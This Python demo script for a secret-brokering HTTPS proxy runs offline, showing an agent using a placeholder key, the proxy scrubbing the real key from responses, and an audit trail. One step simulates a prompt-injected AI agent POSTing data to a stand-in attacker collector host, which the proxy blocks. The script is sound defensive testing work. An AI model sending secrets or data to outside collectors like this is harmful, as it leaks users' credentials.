"""`broker-proxy demo`: the whole story on this machine, offline, in a few seconds.

A local HTTPS API that only answers to the real key, a second local host playing the attacker's
collector, the real proxy process, a grant, an agent request that works although the agent only
holds a placeholder, an exfiltration attempt that is blocked, and the audit trail.
"""

from __future__ import annotations

import base64
import hmac
import json
import os
import secrets
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from broker_proxy.audit.display import format_record
from broker_proxy.audit.log import AuditLog
from broker_proxy.audit.verify import verify_chain
from broker_proxy.devtools.agent_client import AgentResponse, request_through_proxy
from broker_proxy.devtools.echo_server import EchoServer, ReceivedRequest, echo_reply
from broker_proxy.devtools.local_pki import write_pki
from broker_proxy.devtools.proxy_process import ProxyProcess
from broker_proxy.grants.issuer import IssuedGrant, issue_grant
from broker_proxy.grants.sqlite_store import SqliteGrantStore
from broker_proxy.home import Home
from broker_proxy.policy.loader import load_policy
from broker_proxy.secrets.master_key import load_or_create_master_key
from broker_proxy.secrets.vault import Vault
from broker_proxy.time_source import utc_now

API_HOST = "api.demo.test"
COLLECTOR_HOST = "collector.demo.test"
SECRET_NAME = "demo_api_key"
AGENT = "demo-agent"

POLICY_TEMPLATE = """\
version: 1
secrets:
  {secret}:
    from: vault
    destinations:
      - host: {api_host}
        port: {api_port}
        methods: [GET, POST]
        paths: ["/v1/**"]
    env: DEMO_API_KEY
agents:
  {agent}:
    secrets: [{secret}]
    max_ttl: 15m
network:
  # the demo's servers run on this machine; real policies leave this empty
  allow_addresses: [127.0.0.0/8]
"""


def _api_reply(real_key: str
               ) -> Callable[[ReceivedRequest], tuple[int, list[tuple[str, str]], bytes]]:
    """The API checks the key like a real one would, and /v1/echo reflects the request."""

    def reply(request: ReceivedRequest) -> tuple[int, list[tuple[str, str]], bytes]:
        sent = (request.header("Authorization") or "").removeprefix("Bearer ")
        authorized = hmac.compare_digest(sent.encode(), real_key.encode())
        if request.path.startswith("/v1/echo"):
            return echo_reply(request)
        body = json.dumps({"authorized": authorized, "user": "demo" if authorized else None})
        return (200 if authorized else 401), [("Content-Type", "application/json")], body.encode()

    return reply


def run_demo(say: Callable[[str], None] = print) -> int:
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="broker-proxy-demo-") as scratch:
        root = Path(scratch)
        home = Home(root / "home").ensure()
        # The demo's own vault key and no OS keyring: it must not touch the user's state.
        os.environ["BROKER_PROXY_MASTER_KEY"] = base64.urlsafe_b64encode(
            secrets.token_bytes(32)).decode()
        os.environ["PYTHON_KEYRING_BACKEND"] = "keyring.backends.null.Keyring"
        real_key = "sk-demo-" + secrets.token_urlsafe(24)
        pki = write_pki(root / "pki", [API_HOST, COLLECTOR_HOST])

        with (EchoServer(pki.cert_path, pki.key_path, reply=_api_reply(real_key)) as api,
              EchoServer(pki.cert_path, pki.key_path) as collector):
            policy_file = _set_up(root, home, api.port, real_key, say)
            with ProxyProcess(home.root, policy_file, upstream_ca=pki.ca_cert_path,
                              resolve={API_HOST: "127.0.0.1", COLLECTOR_HOST: "127.0.0.1"},
                              log_path=root / "proxy.log") as proxy:
                say(f"2. broker-proxy is running on {proxy.info['listen']}")
                issued = _issue(home, policy_file, proxy, say)
                answers = _agent_requests(proxy, issued, api, collector, real_key, say)
            ok = _contained(answers, collector, real_key)

        ok = _audit_trail(home, root, real_key, say) and ok

    say(f"demo {'passed' if ok else 'FAILED'} in {time.monotonic() - started:.1f}s; "
        "everything it started has stopped")
    return 0 if ok else 1


def _set_up(root: Path, home: Home, api_port: int, real_key: str,
            say: Callable[[str], None]) -> Path:
    """Step 1: the real key in the vault, and a policy that lets it go to the API only."""
    policy_file = root / "policy.yaml"
    policy_file.write_text(POLICY_TEMPLATE.format(
        secret=SECRET_NAME, api_host=API_HOST, api_port=api_port, agent=AGENT))
    Vault(home.vault, load_or_create_master_key(home, create=True)).set(SECRET_NAME, real_key)
    say(f"1. ops stored the real API key in the vault as '{SECRET_NAME}' "
        f"(never shown) and wrote a policy: it may only go to "
        f"https://{API_HOST}:{api_port}/v1/**")
    return policy_file


def _issue(home: Home, policy_file: Path, proxy: ProxyProcess,
           say: Callable[[str], None]) -> IssuedGrant:
    """Step 3: the orchestrator's grant, and what the agent is handed."""
    store = SqliteGrantStore(home.grants_db)
    issued = issue_grant(load_policy(policy_file), store, agent=AGENT,
                         task="demo: read the user profile", secrets=[SECRET_NAME],
                         ttl=None, max_uses=5, now=utc_now(),
                         proxy_url_base=proxy.info["listen"])
    store.close()
    say(f"3. the orchestrator issued grant {issued.grant.id} to {AGENT} "
        f"(5 uses, expires {issued.grant.to_public_dict()['expires_at']}); "
        f"the agent gets HTTPS_PROXY=http://{AGENT}:<token>@{proxy.info['listen']} "
        f"and the placeholder {issued.placeholders[SECRET_NAME]}")
    return issued


class _Answers(NamedTuple):
    """What the agent got back, and what the API saw, in steps 4 to 6."""

    answer: AgentResponse
    got_real_key: bool
    echoed: AgentResponse
    echoed_auth: str
    stolen: AgentResponse


def _agent_requests(proxy: ProxyProcess, issued: IssuedGrant, api: EchoServer,
                    collector: EchoServer, real_key: str,
                    say: Callable[[str], None]) -> _Answers:
    """Steps 4 to 6: a request that works, one whose answer echoes the key, and one to the
    attacker's collector, all with the placeholder only."""
    placeholder = issued.placeholders[SECRET_NAME]

    def agent_call(host: str, port: int, method: str, path: str,
                   body: bytes | None = None) -> AgentResponse:
        return request_through_proxy(
            proxy=(proxy.host, proxy.port), token=issued.token,
            ca_file=proxy.ca_path, method=method, host=host, port=port, path=path,
            headers={"Authorization": f"Bearer {placeholder}"}, body=body,
            agent=AGENT)

    answer = agent_call(API_HOST, api.port, "GET", "/v1/profile")
    got_real_key = api.received_any(real_key)
    say(f"4. agent: GET https://{API_HOST}:{api.port}/v1/profile with "
        f"'Authorization: Bearer {placeholder}'")
    say(f"   -> {answer.status} {answer.body.decode()}")
    say(f"   the API received the real key: {'yes' if got_real_key else 'NO'}; "
        f"the agent's answer contains it: "
        f"{'YES' if real_key.encode() in answer.body else 'no'}")

    echoed = agent_call(API_HOST, api.port, "GET", "/v1/echo")
    echoed_auth = json.loads(echoed.body)["headers"].get("Authorization", "")
    say(f"5. agent: GET /v1/echo, an endpoint that reflects the request -> "
        f"{echoed.status}; the reflected header reads '{echoed_auth}' "
        f"(the proxy scrubbed the real key out of the answer)")

    stolen = agent_call(COLLECTOR_HOST, collector.port, "POST", "/upload",
                        body=b"exfiltrate")
    say(f"6. prompt-injected agent: POST https://{COLLECTOR_HOST}:{collector.port}"
        f"/upload with the same placeholder")
    say(f"   -> {stolen.status} {stolen.body.decode()}")
    say(f"   the collector received {len(collector.requests)} requests")
    return _Answers(answer, got_real_key, echoed, echoed_auth, stolen)


def _contained(answers: _Answers, collector: EchoServer, real_key: str) -> bool:
    """The story held: the API got the key, the collector got nothing, no answer carried it."""
    answer, got_real_key, echoed, echoed_auth, stolen = answers
    return (answer.status == 200 and got_real_key and stolen.status == 403
            and not collector.requests and real_key not in echoed_auth
            and real_key.encode() not in answer.body + echoed.body + stolen.body)


def _audit_trail(home: Home, root: Path, real_key: str, say: Callable[[str], None]) -> bool:
    """Step 7: the records, their verification, and no real key in the log or proxy output."""
    say("7. the audit trail (hash-chained, HMAC'd, no secret values):")
    for record in AuditLog.read_records(home.audit_log):
        say("   " + format_record(record))
    verdict = verify_chain(home.audit_log, home.audit_key)
    say(f"   audit verify: {'ok' if verdict.ok else verdict.message} "
        f"({verdict.records} records)")
    leaked = real_key in home.audit_log.read_text() or real_key in (
        root / "proxy.log").read_text(errors="replace")
    return verdict.ok and not leaked
